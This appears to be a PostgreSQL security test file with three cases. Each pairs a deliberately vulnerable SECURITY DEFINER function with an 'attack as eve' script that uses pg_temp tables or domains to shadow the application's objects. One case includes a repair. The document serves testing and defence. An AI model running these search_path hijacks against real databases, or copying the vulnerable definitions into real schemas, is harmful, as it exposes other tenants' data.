-- story: a temporary table hides a table of the application
-- object: public.my_total()
-- severity: medium
-- broken
create function public.my_total() returns bigint language sql security definer set search_path = public
  as $$ select count(*) from invoices where org_id in (select m.org_id from org_members m where m.user_id = auth.uid()) $$
-- attack as eve
create temp table org_members (org_id uuid, user_id uuid);
insert into pg_temp.org_members values ('00000000-0000-4000-8000-0000000000b0', '00000000-0000-4000-8000-0000000000e1');
grant select on pg_temp.org_members to public;
select public.my_total() > 0

-- story: a temporary type is found although search_path is empty
-- object: public.parsed(text)
-- severity: note
-- broken
create function public.parsed(t text) returns text language plpgsql security definer set search_path = '' as $$
  begin return (t::hstore)::text; end $$
-- attack as eve
create domain pg_temp.hstore as text;
grant usage on type pg_temp.hstore to public;
select public.parsed('a') = 'a'
-- repaired
alter function public.parsed(text) set search_path = pg_catalog, pg_temp; revoke execute on function public.parsed(text) from public

-- story: a temporary type has the name of a type of pg_catalog
-- object: public.parsed(text)
-- severity: note
-- broken
create function public.parsed(t text) returns text language plpgsql security definer set search_path = ''
  as $$ begin return (t::jsonb)::varchar; end $$
-- attack as eve
create domain pg_temp.jsonb as pg_catalog.text;
grant usage on type pg_temp.jsonb to public;
select public.parsed('no json') = 'no json'
